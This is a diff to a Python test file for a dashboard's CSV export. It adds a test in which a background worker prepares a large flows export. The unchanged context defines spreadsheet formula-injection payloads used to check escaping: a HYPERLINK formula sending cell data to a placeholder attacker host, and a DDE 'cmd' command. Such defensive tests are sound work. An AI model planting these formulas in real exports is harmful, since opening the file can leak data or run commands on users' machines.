@@ -3,8 +3,11 @@
 import csv
 import io
 
+from config.settings import get_settings
 from core.flows.child_flow_service import CollectionChildFlowService
 from core.flows.orchestrator import MasterFlowOrchestrator
+from db.session import get_engine
+from jobs.tasks import run_flow_phase
 from tests.dashboard.conftest import HOLES, no_exceptions
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1)")
@@ -59,3 +62,31 @@ def test_the_audit_download_is_written_by_the_same_csv_writer(
     [event] = csv_rows(content)
     assert event["Action"] == "flow_created" and FORMULAS[0] in event["Details"]
     assert starts_like_a_formula([event]) == []
+
+
+def test_a_big_flows_file_is_prepared_by_a_worker_then_downloaded(
+    db, tenant, open_page, flow_with_gaps, dispatcher, downloaded, tmp_path, monkeypatch
+):
+    monkeypatch.setattr("core.flows.phase_runs.INLINE_SCAN_LIMIT", 1)
+    monkeypatch.setenv("EXPORT_DIR", str(tmp_path))
+    get_settings.cache_clear()
+    flow_id = flow_with_gaps(tenant, count=2)
+    app = open_page(tenant, "flow", flow_id)
+    no_exceptions(app)
+    assert not [button for button in app.get("download_button")]  # nothing built in the page
+    app.button(key="prepare_export").click().run()  # the first file offered: gaps as CSV
+    no_exceptions(app)
+    [queued] = dispatcher.jobs
+    assert queued["phase_name"] == "export" and app.button(key="prepare_export").disabled
+
+    db.rollback()  # SQLite: the worker's session needs the write lock
+    get_engine.cache_clear()  # the worker opens its sessions on this test's settings
+    try:
+        assert run_flow_phase(**queued) == "completed"
+    finally:
+        get_engine().dispose()
+        get_engine.cache_clear()
+    app.run()
+    no_exceptions(app)
+    rows = csv_rows(downloaded(app, "export_prepared"))
+    assert len(rows) == 6 and len({row["asset_name"] for row in rows}) == 2  # 3 holes each
